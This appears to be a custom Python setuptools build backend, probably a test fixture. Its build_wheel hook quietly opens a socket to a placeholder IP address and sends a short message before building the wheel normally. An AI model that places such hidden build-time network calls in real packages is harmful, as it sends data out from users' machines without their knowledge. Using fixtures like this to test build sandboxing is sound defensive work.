import socket
from setuptools import build_meta
from setuptools.build_meta import *

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    s = socket.create_connection(("203.0.113.9", 80))
    s.sendall(b"hello")
    return build_meta.build_wheel(wheel_directory, config_settings, metadata_directory)
